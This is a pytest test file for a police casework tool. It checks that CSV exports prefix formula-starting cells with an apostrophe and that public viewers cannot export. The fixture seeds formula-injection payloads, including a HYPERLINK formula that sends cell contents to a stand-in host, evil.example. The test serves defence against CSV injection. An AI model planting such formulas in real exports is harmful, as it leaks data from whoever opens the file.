"""Casework exports: the services hand rows and columns to the face, which writes them through
``sara.report.export``; every export needs export permission (a public viewer exports nothing
and gets no file) and no cell of a written CSV can start a spreadsheet formula, whatever a
partner typed into a name, a site or an activity. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt

import pytest

import sara.cli  # noqa: F401  (registers every command)
from sara.access.users import add_organisation, add_user, get_actor
from sara.casework import interventions as iv
from sara.casework import patrols as pt
from sara.casework import people
from sara.casework.clock import LONDON
from sara.report.export import FORMULA_START
from sara.store import schema as s
from sara.store.engine import connect
from tests.cli import err_json, ok_json

PW = "a long enough password"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def db(db_url):
    """A police force with a problem owner and a public viewer, one loaded ward, and casework
    whose every free-text field a partner could have typed starts like a formula."""
    engine = connect(db_url)
    add_organisation(engine, "Derbyshire Police", "police")
    add_user(engine, "pc", "Derbyshire Police", "problem_owner", PW)
    add_user(engine, "public", "Derbyshire Police", "public_viewer", PW)
    with engine.begin() as conn:
        lid = conn.execute(s.Load.__table__.insert().values(kind="areas", path="x", name="x", sha256="0" * 64, loaded_at=dt.datetime(2026, 1, 1),
                                                            rows_read=1, inserted=1, updated=0, unchanged=0, quarantined=0).returning(s.Load.id)).scalar_one()  # fmt: skip
        conn.execute(s.Area.__table__.insert().values(kind="ward", code="E05001347", name="Bradford Moor", geometry=b"", area_km2=2.1, load_id=lid))
    pc = get_actor(engine, "pc")
    people.add_person(engine, pc, HYPERLINK, "victim", dob=dt.date(1950, 3, 1), address="-1 Oxcroft Lane", flags=["@isolated"])
    pt.create_operation(engine, pc, "=Op Dexter", start=dt.date(2026, 1, 1))
    pt.add_site(engine, pc, "=Op Dexter", "+cmd", area="E05001347", on=dt.date(2026, 1, 1))
    pt.log_patrol(engine, pc, "=Op Dexter", "+cmd", start=dt.datetime(2026, 3, 2, 19, tzinfo=LONDON), end=dt.datetime(2026, 3, 2, 20, tzinfo=LONDON),
                  officers=["\t1234", "-5678"], activity="@SUM(1)", arrests=["RUI / BAIL"], notes="\r=1+1")  # fmt: skip
    iv.issue(engine, pc, "cpw", dt.datetime(2026, 3, 2, 10, tzinfo=LONDON), subject_ref="+S-0001", subject_dob=dt.date(1990, 1, 1), by_rank="constable",
             due=dt.datetime(2026, 3, 16, 10, tzinfo=LONDON))  # fmt: skip
    engine.dispose()
    return db_url


EXPORTS = {
    "people": ("person", "export", "--purpose", "ASB panel"),
    "dosage": ("patrol", "dosage"),
    "arrests": ("patrol", "arrests"),
    "return": ("patrol", "return", "--from", "2026-01-01", "--to", "2026-03-31", "--detail"),
    "power table": ("power", "table", "--from", "2026-01-01", "--to", "2026-12-31"),
}


def test_no_exported_cell_can_start_a_formula(db, tmp_path):
    for name, command in EXPORTS.items():
        path = tmp_path / f"{name}.csv"
        ok_json(*command, "--csv", str(path), "--as", "pc", "--db", db)
        cells = [cell for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
        assert len(cells) > 5, name
        started = [c for c in cells if c.startswith(FORMULA_START)]
        assert started == [], f"{name}: {started}"
        # what was typed is still there, behind an apostrophe
        assert name not in ("dosage", "arrests") or "'+cmd" in cells
    text = (tmp_path / "return.csv").read_bytes().decode("utf-8")
    assert "'@SUM(1)" in text and "'=Op Dexter" in text and "1234; -5678" in text and "'\r=1+1" in text
    assert "'=HYPERLINK" in (tmp_path / "people.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ["dosage", "arrests", "return", "power table"])
def test_a_public_viewer_exports_nothing_and_gets_no_file(db, tmp_path, name):
    path = tmp_path / "public.csv"
    err = err_json(*EXPORTS[name], "--csv", str(path), "--as", "public", "--db", db)
    assert err.startswith("not allowed: a public_viewer may not export") and not path.exists()
